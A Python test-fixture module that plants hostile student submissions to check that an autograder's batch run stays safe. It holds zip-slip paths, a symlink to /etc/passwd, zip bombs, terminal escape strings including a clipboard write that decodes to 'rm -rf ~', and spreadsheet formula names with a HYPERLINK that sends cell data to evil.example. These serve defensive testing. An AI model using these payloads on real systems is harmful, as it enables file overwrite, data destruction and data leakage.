"""Attacks on the trusted side of a batch: crafted downloads (intake), names (identity), output
that floods or drives the TA's terminal, and exports that carry formulas.

Each :class:`BatchAttack` plants its files in one class folder next to honest students; the
whole class is graded in ONE ``grade-batch`` run, so an attack that aborts the run, or bleeds
into another student's grade, fails every test. ``students`` are the keys the attack's
submissions get; ``verdict`` is what each must get; ``says`` is a fragment of its reason or
notes. None of them holds a correct answer: each must score 0.
"""

from __future__ import annotations

import io
import os
import stat
import unicodedata
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from autograder.identity import student_key

WRONG = "import numpy as np\n\ndef step(z):\n    return np.zeros(np.shape(z), dtype=np.int64)\n"
ESCAPES = "\x1b[2J\x1b[3J\x1b]0;GRADED 100/100\x07\x1b]52;c;cm0gLXJmIH4=\x07\u202e"
MARKUP = "[bold green]perceptron: 100 / 100[/bold green] [link=https://evil.example]open[/link]"


@dataclass(frozen=True)
class BatchAttack:
    name: str
    plant: Callable[[Path], None]
    students: tuple[str, ...]
    verdict: str               # graded (with 0 points) | not_gradable
    says: str = ""             # in the reason or the notes of each of ``students``
    check: Callable[[dict], None] | None = field(default=None, compare=False)  # more, on the run's outputs


def zip_of(members: dict, mode: int = zipfile.ZIP_DEFLATED) -> bytes:
    """name -> text/bytes, or (bytes, unix mode)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", mode) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 3, 1, 12, 0, 0))
            info.compress_type = mode
            if isinstance(data, tuple):
                data, info.external_attr = data[0], data[1] << 16
            zf.writestr(info, data)
    return buffer.getvalue()


def put(path: Path, data) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))


def files(members: dict) -> Callable[[Path], None]:
    """Plant ``members`` (relative path -> content)."""
    def plant(root: Path) -> None:
        for name, data in members.items():
            put(root / name, data)
    return plant


def nested(levels: int, inner: bytes) -> bytes:
    for level in range(levels):
        inner = zip_of({f"level{level}.zip": inner}, zipfile.ZIP_STORED)
    return inner


def _fifo(root: Path) -> None:
    os.mkfifo(root / "fifo_9301_9302_perceptron.py")


def _unicode_twins(root: Path) -> None:
    put(root / "Renée" / "perceptron.py", WRONG)
    put(root / unicodedata.normalize("NFD", "Renée") / "perceptron.py", WRONG + "# the other Renée\n")


def _no_escape_outside(run: dict) -> None:
    assert not (run["root"] / "escaped.py").exists() and not Path("/tmp/dlgrade-escaped.py").exists()


def _function_name_bounded(run: dict) -> None:
    document = run["documents"]["bigname"]
    assert len(str(document)) < 400_000  # the megabyte name was not copied into 100+ messages


BIG_NAME = "f" * 1_000_000
INNER_BOMB = zip_of({f"part{i}.bin": b"\0" * (1 << 20) for i in range(40)})  # 1 MiB members: under the ratio floor

BATCH_ATTACKS = [
    # --- intake: crafted archives and files (item 1)
    BatchAttack("zip_file_and_folder_of_one_name",
                files({"clash/work.zip": zip_of({"perceptron.py": WRONG, "perceptron.py/x.py": "x", "a": "x", "a/b": "y"})}),
                ("clash",), "graded", "a file and a folder of the archive have the same name"),
    BatchAttack("zip_member_name_too_long",
                files({"longname/work.zip": zip_of({"x" * 300 + ".py": "x", "d/" * 2100 + "f.py": "x",
                                                     "perceptron.py": WRONG})}),
                ("longname",), "graded", "longer than 255 bytes"),
    BatchAttack("zip_nested_sixty_deep", files({"deepzip/deep.zip": nested(60, zip_of({"perceptron.py": WRONG}))}),
                ("deepzip",), "not_gradable", "one level deep"),
    BatchAttack("zip_nested_bomb_multiplies_the_limits",
                files({"bomb/upload.zip": zip_of({f"inner{i}.zip": INNER_BOMB for i in range(4)} | {"perceptron.py": WRONG},
                                                 zipfile.ZIP_STORED)}),
                ("bomb",), "graded", "over the limit"),
    BatchAttack("zip_slip_symlink_and_device",
                files({"slip/w.zip": zip_of({"../../../escaped.py": "owned = 1", "/tmp/dlgrade-escaped.py": "owned = 1",
                                          "mlp.py": ("/etc/passwd", stat.S_IFLNK | 0o777),
                                          "losses.py": (b"", stat.S_IFCHR | 0o600), "perceptron.py": WRONG})}),
                ("slip",), "graded", "not a regular file", _no_escape_outside),
    BatchAttack("fifo_named_like_a_canvas_file", _fifo, ("9301",), "not_gradable", "not a regular file"),
    BatchAttack("malformed_zip_bytes", files({"broken/w.zip": zip_of({"perceptron.py": WRONG})[:-10]}),  # the directory cut short
                ("broken",), "not_gradable", "not a readable zip file"),
    # --- identity (item 6)
    BatchAttack("unicode_twin_names", _unicode_twins, ("Renée",), "not_gradable", "would share the student key"),
    BatchAttack("lookalike_of_a_classmate", files({"Josø/perceptron.py": WRONG}), ("Josø",), "graded"),
    BatchAttack("name_with_escape_sequences", files({"mal\x1b]0;pwned\x07lory/perceptron.py": WRONG}),
                (student_key("mal\x1b]0;pwned\x07lory"),), "graded"),
    BatchAttack("name_too_long_for_a_key", files({"é" * 120 + "/perceptron.py": WRONG}),
                (student_key("é" * 120),), "graded", "its key is shortened"),
    # --- output bounded and inert (item 4)
    BatchAttack("megabyte_function_name",
                files({"bigname/perceptron.py": f"def {BIG_NAME}(z):\n    raise ValueError('{'v' * 100_000}')\n"
                                             f"def step(z):\n    return {BIG_NAME}(z)\n"}),
                ("bigname",), "graded", check=_function_name_bounded),
    BatchAttack("escape_sequences_in_messages_and_warnings",
                files({"escapes/perceptron.py": f"import warnings\nS = {ESCAPES!r}\n"
                                             "def step(z):\n    warnings.warn(S * 100)\n    raise RuntimeError(S * 100)\n"}),
                ("escapes",), "graded"),
    BatchAttack("rich_markup_in_messages",
                files({"markup/perceptron.py": f"def step(z):\n    raise RuntimeError({MARKUP!r})\n"}),
                ("markup",), "graded"),
    BatchAttack("notebook_cell_notes_flood",
                files({"cells/perceptron.ipynb": '{"cells": [' + ",".join(
                    '{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": null, "source": '
                    '"raise ValueError(\'\\u001b[2J' + "n" * 300 + '\')"}' for _ in range(3000))
                    + '], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'}),
                ("cells",), "graded"),
    # --- exports (item 7)
    BatchAttack("formula_in_moodle_name",
                files({"=HYPERLINK(\"https:evil.example?\"&A1)_4801_assignsubmission_file_/perceptron.py": WRONG}),
                ("4801",), "graded"),
    BatchAttack("formula_in_canvas_name_and_key", files({"@SUM(A1)_4802_9_perceptron.py": WRONG, "+cmd/perceptron.py": WRONG}),
                ("4802", "+cmd"), "graded"),
]
